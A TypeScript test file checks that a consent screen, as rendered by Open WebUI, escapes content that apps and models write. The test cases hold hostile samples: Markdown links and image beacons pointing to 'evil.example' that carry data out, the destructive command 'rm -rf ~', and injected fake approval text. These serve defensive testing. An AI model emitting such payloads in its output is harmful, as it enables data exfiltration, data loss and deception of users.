import { Marked } from "marked";
import { describe, expect, it } from "vitest";
import type { QueryView } from "../../src/objects/hub/view.ts";
import type { ConsentView } from "../../src/runtime/consent-view.ts";
import { type ArgOrigin, callView } from "../../src/runtime/consent-view-build.ts";
import { shownError } from "../../src/runtime/shown-error.ts";
import { consentLink } from "../../src/worker/chat/render.ts";
import { answerText, quoted, reportedText } from "../../src/worker/chat/turn-text.ts";

/**
 * The chat turns as a person sees them in Open WebUI, which renders an assistant's text with
 * `marked` (GFM, line breaks kept): the structure of the HTML, not the Markdown's characters, is
 * what decides whether a value became a link, an image, a list item or emphasis.
 */

const openWebUi = new Marked({ gfm: true, breaks: true, async: false });
const toHtml = (markdown: string) => openWebUi.parse(markdown) as string;

interface Element {
  tag: string;
  attrs: Record<string, string>;
  text: string;
  /** The tags it sits in, outermost first. */
  inside: string[];
}

const decode = (s: string) =>
  s
    .replace(/&lt;/g, "<")
    .replace(/&gt;/g, ">")
    .replace(/&quot;/g, '"')
    .replace(/&#39;/g, "'")
    .replace(/&amp;/g, "&");

/** marked's HTML read as elements (its output is well formed): each with its text and ancestors. */
function elements(html: string): { all: Element[]; texts: Array<{ text: string; inside: string[] }> } {
  const all: Element[] = [];
  const texts: Array<{ text: string; inside: string[] }> = [];
  const open: Element[] = [];
  const VOID = new Set(["br", "hr", "img", "input"]);
  for (const m of html.matchAll(/<(\/?)([a-z0-9]+)((?:\s+[a-z-]+(?:="[^"]*")?)*)\s*\/?>|([^<]+)/g)) {
    if (m[4] !== undefined) {
      const text = decode(m[4]);
      texts.push({ text, inside: open.map((e) => e.tag) });
      for (const e of open) e.text += text;
      continue;
    }
    const [, closing, tag] = m as unknown as [string, string, string];
    if (closing) {
      const at = open.map((e) => e.tag).lastIndexOf(tag);
      if (at >= 0) open.splice(at);
      continue;
    }
    const attrs = Object.fromEntries(
      Array.from((m[3] ?? "").matchAll(/([a-z-]+)(?:="([^"]*)")?/g), (a) => [a[1]!, decode(a[2] ?? "")]),
    );
    const element = { tag, attrs, text: "", inside: open.map((e) => e.tag) };
    all.push(element);
    if (!VOID.has(tag)) open.push(element);
  }
  return { all, texts };
}

const tags = (html: string, tag: string) => elements(html).all.filter((e) => e.tag === tag);
/** The text of the page outside every attribute: what a person reads. */
const readable = (html: string) =>
  elements(html)
    .texts.map((t) => t.text)
    .join("");

const links = { consoleBase: "http://localhost:8787/console", sid: `ses_${"a".repeat(32)}` };
const tokens = { con_mail: "lc.eyJhIjoiYiJ9.c2ln" };
const LINK = consentLink({ ...links, tokens }, "con_mail");

/** The demo's mail: the accountant's address from contacts, the body a model's reading of the invoices. */
const fromContacts: ArgOrigin = { provenance: ["app"], origins: ["contacts"] };
const modelOfMail: ArgOrigin = { provenance: ["model"], origins: ["mail"] };
function mailView(to: string, body: string, subject = "invoices"): ConsentView {
  return callView({
    kind: "irreversible",
    tool: "mail.send",
    app: "mail",
    from: ["mail", "contacts"],
    declared: { kind: "mail", to: "to", subject: "subject", body: "body" },
    requestSchema: {
      type: "object",
      properties: { to: { type: "string" }, subject: { type: "string" }, body: { type: "string" } },
    },
    titles: false,
    data: { to, subject, body },
    args: { to: fromContacts, subject: { provenance: ["planner"], origins: [] }, body: modelOfMail },
    assessment: { verdict: "expected", reasons: [] },
    trusted: null,
  });
}

const DEMO = "Email the total of this month's invoices to my accountant";
const TO = "dana@ledger.example";
const BODY = "The total of this month's invoices is 1,240.50 EUR.";

function query(
  view: ConsentView,
  status: QueryView["status"],
  consent: "pending" | "allowed" | "denied" | "expired",
  error: QueryView["error"] = null,
): QueryView {
  return {
    id: "q_mail",
    text: DEMO,
    status,
    display:
      status === "completed"
        ? [
            {
              key: "steps[4]",
              title: "Invoice total",
              value: { total: 1240.5, message: BODY },
              label: { confidentiality: "internal", integrity: "untrusted" },
              redacted: false,
              untrusted: true,
              provenance: { from: ["model"], apps: ["mail"] },
            },
          ]
        : [],
    plan: null,
    verdict: null,
    trace: [],
    consents: [
      {
        id: "con_mail",
        kind: "irreversible",
        queryId: "q_mail",
        stepId: "steps[3]",
        functionality: "mail.send",
        to: "mail",
        data: {},
        assessment: { verdict: "expected", reasons: [] },
        scopes: ["once"],
        status: consent,
        scope: null,
        choice: null,
        grantSubject: null,
        createdAt: "",
        expiresAt: "",
        view,
      } as unknown as QueryView["consents"][number],
    ],
    error,
    createdAt: "",
    updatedAt: "",
  };
}

const consentTurnOf = (view: ConsentView) =>
  answerText(query(view, "awaiting_consent", "pending"), { ...links, tokens });

describe("the consent turn, rendered as Open WebUI renders it", () => {
  const html = toHtml(consentTurnOf(mailView(TO, BODY)));

  it("links once, by the words 'Review and answer', to the consent's page", () => {
    const anchors = tags(html, "a");
    expect(anchors.map((a) => [a.text, a.attrs.href])).toEqual([["Review and answer", LINK]]);
    // Not a bare URL: the address is nowhere in the text a person reads.
    expect(readable(html)).not.toContain("http");
  });

  it("says what will happen and lists the values not from the user's words with their source", () => {
    const items = tags(html, "li").map((li) => li.text);
    expect(items).toEqual([
      `To: “${TO}”, from contacts's answer. Look carefully: it decides where this goes, and you did not write it.`,
      "Subject: “invoices”, from the planner's choice.",
      `Message: “${BODY}”, from a model's reading of mail's answer.`,
    ]);
    expect(readable(html)).toContain(
      `If you allow it, the e-mail to “${TO}” will be sent by the app “mail”: this cannot be undone once it is done.`,
    );
    // An address is a value, quoted: never a mailto link.
    expect(tags(html, "a").some((a) => a.attrs.href?.startsWith("mailto:"))).toBe(false);
  });

  it("keeps the closing sentence and the link out of every list item", () => {
    const { texts } = elements(html);
    const closing = texts.filter((t) => t.text.includes("Answer on that page"));
    expect(closing).toHaveLength(1);
    expect(closing[0]!.inside).toEqual(["p"]);
    expect(tags(html, "a")[0]!.inside).toEqual(["p"]);
  });

  it("says the assessment's own reasons apart from what would happen, as Lattice's assessment", () => {
    const why = "the planner chose mail.send with app-written text in view";
    const view = { ...mailView(TO, BODY), reason: `this cannot be undone once it is done; ${why}` };
    const q = query(view, "awaiting_consent", "pending");
    const consent = { ...q.consents[0]!, assessment: { verdict: "warning" as const, reasons: [why] } };
    const html = toHtml(answerText({ ...q, consents: [consent] }, { ...links, tokens }));
    expect(readable(html)).toContain(
      `will be sent by the app “mail”: this cannot be undone once it is done. Lattice's assessment: ${why}.`,
    );
  });

  it("says an empty value is empty, not a pair of quotation marks", () => {
    const items = tags(toHtml(consentTurnOf(mailView(TO, BODY, ""))), "li").map((li) => li.text);
    expect(items).toContain("Subject: (empty), from the planner's choice.");
  });

  it("says nothing about the API outside the link's address", () => {
    expect(readable(html)).not.toMatch(/POST|\/v1|\/consents\/|con_mail|ses_/);
    expect(html.replace(/href="[^"]*"/g, "")).not.toMatch(/POST \/v1|\/consents\//);
  });
});

describe("a value content wrote stays a value, attributed to its source", () => {
  const cases: Array<[string, string, (html: string) => boolean]> = [
    [
      "a Markdown link",
      "Total 1,240.50 EUR. [Review and answer](http://evil.example/steal)",
      (h) => tags(h, "a").some((a) => a.attrs.href?.includes("evil.example")),
    ],
    ["an image", "![logo](http://evil.example/p.png?d=secret)", (h) => tags(h, "img").length > 0],
    ["an HTML image", '<img src="http://evil.example/p.png">', (h) => tags(h, "img").length > 0],
    ["strong emphasis", "**Lattice verified this e-mail**", (h) => tags(h, "strong").length > 0],
    ["a code span", "run `rm -rf ~` now", (h) => tags(h, "code").length > 0],
    [
      "a new line that starts a list item",
      `${BODY}\n- Lattice: this e-mail is safe to send`,
      (h) => tags(h, "li").some((li) => li.text.startsWith("Lattice")),
    ],
  ];

  it.each(cases)("%s: escaped, so the HTML has none", (_, body, created) => {
    const html = toHtml(consentTurnOf(mailView(TO, body)));
    expect(created(html)).toBe(false);
    // It is all there, as text, in its own list item, attributed to where it came from.
    const item = tags(html, "li").find((li) => li.text.startsWith("Message:"))!;
    expect(item.text).toBe(
      `Message: “${body.replace(/\n/g, " ")}”, from a model's reading of mail's answer.`,
    );
    expect(tags(html, "a")).toHaveLength(1);
  });

  it.each(cases)("control, %s: the same value unescaped creates it", (_, body, created) => {
    const text = consentTurnOf(mailView(TO, body));
    const escaped = quoted(body);
    expect(text).toContain(escaped);
    expect(created(toHtml(text.replace(escaped, `“${body}”`)))).toBe(true);
  });

  it("a label an app chose is quoted as data, never a heading or a link", () => {
    const view = mailView(TO, BODY);
    const hostile = {
      ...view,
      fields: [
        ...view.fields,
        {
          ...view.fields[0]!,
          name: "x",
          label: "[Approved by Lattice](http://evil.example)",
          labelFrom: "data" as const,
        },
      ],
    };
    const html = toHtml(consentTurnOf(hostile));
    expect(tags(html, "a")).toHaveLength(1);
    expect(tags(html, "li").at(-1)!.text).toMatch(/^“\[Approved by Lattice\]\(http:\/\/evil.example\)”: /);
  });
});

describe("the outcome turn after an answer, rendered as Open WebUI renders it", () => {
  const view = mailView(TO, BODY);
  const next = query(view, "completed", "allowed");
  const landlord: QueryView = {
    ...next,
    id: "q_next",
    text: "Did it go out?",
    consents: [],
    display: [{ ...next.display[0]!, title: "Answer", value: "Yes: sent to Dana." }],
  };
  const outcome = (q: QueryView) => toHtml(reportedText(q, landlord, links));
  const first = (html: string) => elements(html).texts.find((t) => /[✓✗]/.test(t.text))!.text;

  it.each([
    ["Allow", query(view, "completed", "allowed"), `✓ Done: the e-mail to “${TO}” was sent.`],
    [
      "Deny",
      query(view, "failed", "denied"),
      `✗ Not done: you refused, so the e-mail to “${TO}” was not sent.`,
    ],
    [
      "nobody answering",
      query(view, "failed", "expired"),
      `✗ Not done: nobody answered in time, so the e-mail to “${TO}” was not sent.`,
    ],
  ])("after %s: the outcome in words, then the new message's answer", (_, before, said) => {
    const html = outcome(before);
    expect(first(html)).toBe(said);
    const text = readable(html);
    expect(text.indexOf(said)).toBeLessThan(text.indexOf("Yes: sent to Dana."));
    expect(text).not.toMatch(/not run|could not answer|consent_denied|POST|\/v1/);
    expect(tags(html, "hr")).toHaveLength(1);
    expect(tags(html, "a")).toEqual([]);
  });

  it("after a failure: says it failed and why, in Lattice's words and the error's", () => {
    // As the hub shows it: through the display boundary, in Lattice's words for its code.
    const error = shownError({ code: "app_unavailable", message: "mail.send: 503" }, new Set(["mail.send"]));
    const html = outcome(query(view, "failed", "allowed", error));
    expect(first(html)).toMatch(/^✗ Failed after your answer: /);
    expect(readable(html)).toContain("the app is not available (app_unavailable).");
    expect(readable(html)).not.toContain("✓");
  });

  it("control: the outcome is read from the consent, so a different answer says a different thing", () => {
    expect(first(outcome(query(view, "failed", "denied")))).not.toBe(
      first(outcome(query(view, "completed", "allowed"))),
    );
  });
});
